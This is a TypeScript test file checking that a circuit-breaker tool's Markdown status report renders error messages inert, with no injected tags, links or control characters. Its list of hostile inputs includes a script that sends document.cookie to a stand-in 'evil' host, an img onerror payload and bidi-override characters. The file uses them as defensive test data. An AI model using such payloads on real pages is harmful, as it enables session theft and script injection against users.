import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { describe, expect, it } from "vitest";
import { DEFAULT_POLICY, type BreakerPolicy } from "../../lib/core/policy.js";
import { initialState, type BreakerState } from "../../lib/core/state.js";
import { acquire, record, trip } from "../../lib/core/transitions.js";
import { status } from "../../lib/dagger/state-actions.js";
import { markdownCodeCell } from "../../lib/report/markdown-code.js";
import { oneLine } from "../../lib/report/one-line.js";
import { statusMarkdown } from "../../lib/report/status-markdown.js";
import { MemoryStateStore } from "../../lib/store/memory-store.js";

const T0 = Date.UTC(2026, 11, 4, 12, 0, 0);
const policy: BreakerPolicy = { ...DEFAULT_POLICY, trip: { kind: "consecutive", threshold: 1 } };

/** A breaker opened by one failure whose output is `message`. */
function failedWith(name: string, message: string): BreakerState {
  const a = acquire(initialState(name, T0), policy, T0, "p");
  if (!a.decision.admitted) throw new Error("expected admission");
  return record(a.state, policy, T0 + 1, a.decision.permit, { ok: false, durationMs: 1, exitCode: 7, error: message }).state;
}

/**
 * Rendered as GitHub renders Markdown (GFM, micromark follows its spec), with raw HTML let
 * through as a page would before its sanitiser: an injected tag shows up as a tag.
 */
const render = (md: string) => micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });

const decode = (html: string) =>
  html.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&#x27;|&#39;/g, "'").replace(/&amp;/g, "&");

/** The cells of each body row, as HTML. */
function bodyRows(html: string): string[][] {
  const body = html.split("<tbody>")[1]?.split("</tbody>")[0] ?? "";
  return Array.from(body.matchAll(/<tr>([\s\S]*?)<\/tr>/g), (r) => Array.from((r[1] ?? "").matchAll(/<td>([\s\S]*?)<\/td>/g), (c) => c[1] ?? ""));
}

const HOSTILE: [string, string][] = [
  ["pipes", "a | b || c \\| d \\\\| e |"],
  ["an HTML tag", '<img src=x onerror="alert(1)"><b>bold</b>'],
  ["a script", "<script>fetch('http://evil/'+document.cookie)</script>"],
  ["a link", "see [x](http://evil) and [ref][1]\n\n[1]: http://evil"],
  ["an image", "![pwn](http://evil/p.png)"],
  ["autolinks", "http://evil.example/x www.evil.example mail me@evil.example <http://evil>"],
  ["backticks", "``` a ` b `` c ````"],
  ["a heading and a list on new lines", "# owned\n- item\n| x | y |\n|---|---|"],
  ["entities and escapes", "&lt;b&gt; &amp; \\* \\_ &#x3C;script&#x3E;"],
  ["emphasis, mentions, issue refs, emoji codes", "**b** _i_ ~~s~~ @octocat #1 :rocket:"],
  ["bidi overrides and control characters", "safe\u202eevil\u2066x\u0007\u0000\r\nend"],
];

describe("status --format markdown", () => {
  for (const [what, message] of HOSTILE) {
    it(`keeps hostile error text inert: ${what}`, () => {
      const html = render(statusMarkdown([failedWith("api", message)], [], T0 + 1000));
      // Only the elements the summary itself writes; no link, image, script or injected tag.
      const tags = new Set(Array.from(html.matchAll(/<\/?([a-z0-9]+)/gi), (m) => (m[1] ?? "").toLowerCase()));
      expect([...tags].sort()).toEqual(["code", "h3", "p", "table", "tbody", "td", "th", "thead", "tr"]);
      // No element carries an attribute (href, src, on*): the text inside code spans is escaped.
      expect(html).not.toMatch(/<[a-z0-9]+\s/i);
      const rows = bodyRows(html);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toHaveLength(6);
      // The error cell shows the text itself, on one line, cut to 100 characters.
      const code = /<code>([\s\S]*)<\/code>/.exec(rows[0]?.[3] ?? "")?.[1] ?? "";
      const shown = decode(code);
      const expected = oneLine(message, 100);
      // Renderers differ only in the backslashes right before a pipe (one more or one fewer).
      const pipes = (t: string) => t.replace(/\\*\|/g, "|");
      expect(pipes(shown)).toBe(pipes(expected));
      expect(shown.split("|")).toHaveLength(expected.split("|").length);
      expect(shown).not.toMatch(/[\n\r\u0000\u202e\u2066]/);
    });
  }

  it("cuts very long and multi-line text by graphemes, never inside an emoji or an accent", () => {
    const flags = "🇩🇪".repeat(150);
    const cut = oneLine(`${flags}\n${"x".repeat(500)}`, 100);
    expect(Array.from(new Intl.Segmenter("en", { granularity: "grapheme" }).segment(cut))).toHaveLength(100);
    expect(cut).toBe(`${"🇩🇪".repeat(99)}…`);
    expect(oneLine("e\u0301".repeat(120), 100)).toBe(`${"e\u0301".repeat(99)}…`);
    const html = render(statusMarkdown([failedWith("api", "Ünïcödé 日本語 ".repeat(40))], [], T0 + 1000));
    expect(bodyRows(html)[0]?.[3]).toContain("Ünïcödé 日本語");
    expect(html).not.toContain("\ufffd");
  });

  it("fences a code span past the longest run of backticks, so the text cannot close it", () => {
    expect(markdownCodeCell("a ``` b", 100)).toBe("```` a ``` b ````");
    expect(markdownCodeCell("`x`", 100)).toBe("`` `x` ``");
    expect(markdownCodeCell(" \n ", 100)).toBe("-");
    expect(render(`| c |\n|---|\n| ${markdownCodeCell("`x`", 100)} |`)).toContain("<td><code>`x`</code></td>");
  });

  it("shows the state as a symbol and a word, the failures, the last error, and when it opened", () => {
    const forced = trip(initialState("www.example.com", T0), policy, T0, null);
    const md = statusMarkdown([failedWith("deploy_api_", "registry returned 503"), forced, initialState("fine", T0)], [], T0 + 1000);
    expect(md).toContain("| ` deploy_api_ ` | 🔴 open | 1/1 consecutive failures | ` registry returned 503 ` (exit 7) at 2026-12-04T12:00:00Z | 2026-12-04T12:00:00Z | 2026-12-04T12:01:00Z |");
    expect(md).toContain("| ` www.example.com ` | ⛔ forced open |");
    expect(md).toContain("| ` fine ` | 🟢 closed | 0/5 consecutive failures | - | - | - |");
    // Breaker names are code too: a dotted name is not a link, an underscore not emphasis.
    const html = render(md);
    expect(html).not.toContain("<a");
    expect(html).not.toContain("<em>");
    expect(bodyRows(html).map((r) => r.length)).toEqual([6, 6, 6]);
  });

  it("lists unreadable breakers in their own table, escaped the same way", () => {
    const html = render(statusMarkdown([], [{ breaker: "x", message: "state is | <b>unreadable</b> [x](http://evil)" }], T0));
    expect(html).not.toMatch(/<a|<b>/);
    expect(bodyRows(html)).toEqual([["<code>x</code>", "<code>state is | &lt;b&gt;unreadable&lt;/b&gt; [x](http://evil)</code>"]]);
  });

  it("says when there is nothing to show", () => {
    expect(statusMarkdown([], [], T0)).toContain("No breakers yet");
    expect(statusMarkdown([], [], T0, "registry-")).toContain("No breaker has a name starting with ` registry- `.");
  });

  it("is chosen by --format markdown, and a wrong format names all three", async () => {
    let now = T0;
    const store = new MemoryStateStore(() => now);
    await store.apply({ op: "trip", breaker: "staging", policy: null, durationMs: null });
    now += 1000;
    expect(await status(store, null, "markdown")).toContain("| ` staging ` | ⛔ forced open |");
    expect(await status(store, null, "markdown", "prod-")).toContain("No breaker has a name starting with");
    await expect(status(store, null, "html")).rejects.toThrow('--format must be "table", "json" or "markdown", got "html"');
  });
});
